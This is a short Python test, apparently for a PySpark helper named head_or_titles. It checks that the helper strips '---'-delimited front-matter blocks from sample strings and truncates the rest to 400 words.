    texts = ["---\r\nname: x\r\n---\r\nbody\r\ntext", "a\n --- \nb\n---\nc", "a\n---\nb", "---- a\n--- b", "---\nx\n---\ny\n---\nz", "", "　---\nq\n--- \nend"]

    def expected(text):
        on, kept = True, []
        for line in text.split("\n"):
            if line.strip() == "---":
                on = not on
            elif on:
                kept.append(line)
        return " ".join("\n".join(kept).split()[:400])

    df = spark.createDataFrame([(i, t) for i, t in enumerate(texts)], "i int, t string")
    got = {r.i: r.h for r in df.select("i", keywords.head_or_titles(F.col("t"), F.lit("allow")).alias("h")).collect()}
    assert got == {i: expected(t) for i, t in enumerate(texts)}
